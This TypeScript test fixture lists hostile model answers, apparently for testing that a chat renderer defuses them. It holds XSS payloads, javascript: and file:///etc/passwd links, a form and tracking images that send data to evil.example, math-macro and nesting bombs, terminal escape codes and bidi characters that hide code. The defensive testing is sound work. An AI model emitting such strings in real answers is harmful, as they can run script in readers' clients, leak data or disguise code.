/** What a model might be made to say, by a statement or by its training: none of it may run, load or hide anything. */
export const hostileAnswers: Record<string, string> = {
  'a script': '<script>window.pwned = 1</script>\n\n<scr<script>ipt>window.pwned = 1</scr</script>ipt>',
  'event handlers':
    '<img src=x onerror="window.pwned=1"><b onclick="window.pwned=1">press</b><body onload=window.pwned=1>',
  'an SVG':
    '<svg onload="window.pwned=1"><script>window.pwned=1</script><a xlink:href="javascript:window.pwned=1">x</a></svg>',
  'a frame':
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="x"></object><embed src="x">',
  'a form': '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
  'MathML tricks':
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.pwned=1>">',
  'links that run':
    '[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](command:workbench.action.quit) [d](data:text/html,<script>window.pwned=1</script>) [e](vbscript:x) [f](file:///etc/passwd) [g](vscode://x/y) <javascript:window.pwned=1>',
  'a link with quotes':
    '[a](https://example.com/"onmouseover="window.pwned=1) [b](https://example.com/?`onload=1`)',
  'remote pictures': '![x](https://evil.example/pixel.png) ![y][z]\n\n[z]: https://evil.example/two.png',
  'formulas with links':
    '$\\href{javascript:window.pwned=1}{x}$ $\\url{javascript:window.pwned=1}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlData{x=1}{y} \\htmlStyle{color:red}{z} \\htmlClass{best}{w}$',
  'macro bombs':
    '$$\\def\\a#1{#1#1#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}$$\n\n$\\def\\x{\\x\\x}\\x$\n\n$\\rule{99999em}{99999em}$',
  'formulas that are HTML':
    '$<img src=x onerror=window.pwned=1>$\n\n$$\\text{<script>window.pwned=1</script>}$$',
  'deep formulas': `$${'{'.repeat(1900)}x${'}'.repeat(1900)}$ $${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}$`,
  'a huge table': `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${`|${'1|'.repeat(300)}\n`.repeat(120)}`,
  'deep nesting': `${'> '.repeat(2000)}x\n\n${'- '.repeat(500)}x\n\n${'['.repeat(5000)}`,
  'emphasis without end': `${'*a _b '.repeat(5000)}`,
  'terminal codes': '```\n\u001b[2J\u001b[31mred\u001b]8;;https://evil.example\u0007x\u0007\n```\n\u001b[1m',
  'turned text':
    '```python\nif access != "user\u202e \u2066# check\u2069 \u2066":\n    pass\n```\nand \u202eover\u202c here',
  'an open fence': '```python\nprint(1)\n<script>window.pwned=1</script>',
  'a fence that names a handler': '```js" onload="window.pwned=1\nx\n```',
};
